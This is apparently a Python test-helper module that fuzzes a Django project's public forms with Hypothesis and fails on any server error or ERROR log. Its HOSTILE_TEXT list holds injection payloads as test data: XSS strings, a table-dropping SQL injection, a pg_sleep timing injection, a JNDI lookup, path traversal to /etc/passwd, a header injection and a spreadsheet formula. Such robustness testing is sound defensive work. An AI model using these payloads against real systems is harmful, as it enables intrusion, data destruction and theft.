"""Hypothesis strategies for hostile input to the public forms, and the checks every answer must
pass: never a server error, never an ERROR log record."""

import logging
import string
from contextlib import contextmanager
from urllib.parse import urlencode

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# As many examples as the profile asks for (tests/conftest.py). Fixtures (the database, a client)
# are shared by the examples of one test on purpose.
FORM_SETTINGS = settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE_BREAK = '"><img src=x onerror=alert(1)>'
SQL = "'; DROP TABLE reporting_report; --"

HOSTILE_TEXT = [
    SCRIPT,
    ATTRIBUTE_BREAK,
    SQL,
    "' OR '1'='1",
    "1); SELECT pg_sleep(5); --",
    "{{ request.session }}{% debug %}",
    "%(name)s %s %n %x",
    "${jndi:ldap://example.org/a}",
    "../../../../etc/passwd",
    "javascript:alert(1)",
    "a\x00b",
    "\x00",
    "\x1b[31m\x07\x08\x7f",
    "\u202eevil\u200b\ufeff",
    "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594 😀 שלום مرحبا",
    "Line\r\nBcc: victim@example.org",
    '=HYPERLINK("https://example.org","x")',
    "A" * 10_001,
    "é" * 6000,
    " ",
    "",
]
HOSTILE_NUMBERS = [
    "9" * 400,
    "-1",
    "0",
    "1e309",
    "-1e309",
    "NaN",
    "Infinity",
    "0x1F",
    "1_000",
    "²",
    "١٢",
    "3.14159265358979323846",
]
ODD_DATES = [
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "-2026-01-01",
    "99999999999-01-01",
    "2026-1-1",
    "01/02/2026",
    "tomorrow",
]

hostile_text = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=300),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=20),
)
value = st.one_of(
    hostile_text,
    st.sampled_from(HOSTILE_NUMBERS + ODD_DATES),
    st.integers().map(str),
    st.floats(allow_nan=True).map(str),
    st.dates().map(str),
)
# Field names a browser would not send, besides the form's own.
stray_name = st.text(alphabet=string.ascii_letters + string.digits + "-_[].", min_size=1, max_size=20)


def form_data(names, *, extra=None):
    """Posted data: some of the form's fields (others missing), stray ones, any of them repeated."""
    keys = st.one_of(st.sampled_from(list(names)), stray_name)
    data = st.dictionaries(keys, st.lists(value, min_size=1, max_size=3), max_size=len(names) + 3)
    if extra is not None:
        data = st.builds(lambda base, more: {**base, **more}, data, extra)
    return data


def post(client, url, data, *, urlencoded, **extra):
    """Post as a browser's multipart form, or as an urlencoded body."""
    if urlencoded:
        return client.post(
            url, urlencode(data, doseq=True), content_type="application/x-www-form-urlencoded", **extra
        )
    return client.post(url, data, **extra)


def typed(data, name) -> str | None:
    """What the page should show back for a field: the last value sent, as Django reads it."""
    values = data.get(name)
    return values[-1] if values else None


class _ErrorRecords(logging.Handler):
    def __init__(self):
        super().__init__(level=logging.ERROR)
        self.records = []

    def emit(self, record):
        self.records.append(record)


@contextmanager
def no_error_logged():
    """Fail if anything logs at ERROR (a traceback, a 5xx) while the block runs."""
    handler = _ErrorRecords()
    root = logging.getLogger()
    root.addHandler(handler)
    try:
        yield
    finally:
        root.removeHandler(handler)
    assert not handler.records, [record.getMessage() for record in handler.records]
